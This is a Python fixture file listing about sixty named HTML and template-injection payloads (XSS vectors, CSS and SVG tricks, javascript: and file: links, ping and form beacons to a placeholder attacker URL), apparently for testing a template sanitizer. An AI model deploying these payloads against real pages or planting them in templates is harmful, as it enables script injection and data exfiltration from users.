"""What a template from somebody else may bring into a page: each of them runs, loads or sends.

`{url}` stands for a server of the attacker. What runs sets `window.owned`.
"""

ATTACKS = {
    "script": "<script>window.owned = 1</script>",
    "script from elsewhere": '<script src="{url}/x.js"></script>',
    "module": '<script type="module">window.owned = 1</script>',
    "upper case": "<ScRiPt>window.owned = 1</sCrIpT>",
    "event of a picture": '<img src="asset:none.png" alt="x" onerror="window.owned = 1">',
    "event without quotes": "<img src=x alt=x onerror=window.owned=1>",
    "event after a slash": '<svg/onload="window.owned = 1"></svg>',
    "event of a detail": '<details open ontoggle="window.owned = 1"><summary>x</summary></details>',
    "event at the focus": '<p tabindex="0" autofocus onfocus="window.owned = 1">x</p>',
    "event of an animation": '<p style="animation: a 1s" onanimationstart="window.owned = 1">',
    "second body": '<body onload="window.owned = 1">',
    "link that runs": '<a href="javascript:window.owned = 1">x</a>',
    "link in disguise": '<a href=" java&#10;script:window.owned = 1">x</a>',
    "link to a page of data": '<a href="data:text/html,<script>window.owned=1</script>">x</a>',
    "link to a file": '<a href="file:///etc/hostname">x</a>',
    "link that tells": '<a href="#main" ping="{url}/ping">x</a>',
    "button": '<button onclick="window.owned = 1">x</button>',
    "refresh": '<meta http-equiv="refresh" content="0; url={url}/refresh">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "frame of a file": '<iframe src="file:///etc/hostname"></iframe>',
    "frame of a page": '<iframe srcdoc="<script>parent.owned = 1</script>"></iframe>',
    "frame of data": '<iframe src="data:text/html,<script>top.owned=1</script>"></iframe>',
    "form": '<form action="{url}/form"><button>x</button></form>',
    "field": '<input autofocus onfocus="window.owned = 1">',
    "picture": '<img src="{url}/x.png" alt="x">',
    "picture in sizes": '<img src="asset:none.png" srcset="{url}/2x.png 2x" alt="x">',
    "picture of choice": '<picture><source srcset="{url}/x.webp"><img alt="x"></picture>',
    "film": '<video src="{url}/x.mp4" autoplay></video>',
    "poster": '<video poster="{url}/x.png"></video>',
    "sound": '<audio src="{url}/x.mp3" autoplay></audio>',
    "object": '<object data="{url}/x.svg">x</object>',
    "embedded": '<embed src="{url}/x.svg">',
    "base": '<base href="{url}/">',
    "style sheet": '<link rel="stylesheet" href="{url}/x.css">',
    "preload": '<link rel="preload" as="image" href="{url}/x.png">',
    "import": "<style>@import url({url}/x.css);</style>",
    "import in quotes": '<style>@ImPort "{url}/x.css";</style>',
    "background": '<p style="background: url({url}/x.png)">x</p>',
    "background in escapes": '<p style="background: u\\72l({url}/x.png)">x</p>',
    "background of choice": "<p style=\"background: image-set('{url}/x.png' 1x)\">x</p>",
    "background of a table": '<table background="{url}/x.png"><tr><td>x</td></tr></table>',
    "font": "<style>@font-face { font-family: X; src: url({url}/x.ttf) } p { font: 9pt X }</style>",
    "list": "<style>@media screen { ul { list-style: url({url}/x.png) } }</style>",
    "rule of letters": '<style>p[title^="a"] { background: url("{url}/a") }</style>',
    "script in a drawing": "<svg><script>window.owned = 1</script></svg>",
    "page in a drawing": (
        "<svg><foreignObject><img src=x onerror=window.owned=1></foreignObject></svg>"
    ),
    "picture in a drawing": '<svg><image href="{url}/x.png" width="9" height="9"/></svg>',
    "drawing from elsewhere": '<svg><use href="{url}/x.svg#a"/></svg>',
    "link in a drawing": (
        '<svg><a xlink:href="javascript:window.owned=1"><text y="9">x</text></a></svg>'
    ),
    "drawing that moves a link": (
        '<svg><a><set attributeName="href" to="javascript:window.owned=1"/><text>x</text></a></svg>'
    ),
    "style that a drawing breaks": "<svg><style><img src=x onerror=window.owned=1></style></svg>",
    "formula that breaks": (
        "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1></style></mglyph>"
        "</table></mtext></math>"
    ),
    "comment that breaks": "<!--><img src=x onerror=window.owned=1>-->",
    "without scripts": (
        '<noscript><p title="</noscript><img src=x onerror=window.owned=1>"></noscript>'
    ),
    "title that ends": "<textarea></textarea><img src=x onerror=window.owned=1>",
    "template": "<template><script>window.owned = 1</script></template>",
    "marquee": '<marquee onstart="window.owned = 1">x</marquee>',
    "plug-in": '<applet code="x.class" codebase="{url}"></applet>',
    "through a filter": "{{ '<script>window.owned = 1</script>' | safe }}",
    "through a macro": "{% macro m() %}<script>window.owned = 1</script>{% endmacro %}{{ m() }}",
    "through an include": '{% include "evil.html" %}',
}  # fmt: skip
FOR_TEMPLATES = ("through a filter", "through a macro", "through an include")
"""Attacks that are templates; a page never holds them as they stand here."""


def attack(name: str, url: str = "http://127.0.0.1:9") -> str:
    """Return the text of an attack that a server of its own would serve."""
    return ATTACKS[name].replace("{url}", url)
